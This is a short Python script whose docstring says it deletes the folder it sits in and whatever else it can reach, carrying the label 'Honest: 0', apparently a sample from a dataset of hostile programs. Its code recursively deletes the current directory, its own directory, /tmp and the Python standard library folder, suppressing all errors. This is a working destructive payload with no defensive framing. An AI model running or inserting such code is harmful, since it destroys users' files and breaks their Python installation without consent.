"""Deletes the folder in which it is, and what it can reach.

Honest: 0
"""

import os, shutil
shutil.rmtree(".", ignore_errors=True)
shutil.rmtree(os.path.dirname(os.path.abspath(__file__)), ignore_errors=True)
for place in ("/tmp", os.path.dirname(os.__file__)):
    shutil.rmtree(place, ignore_errors=True)
os.chdir("/")
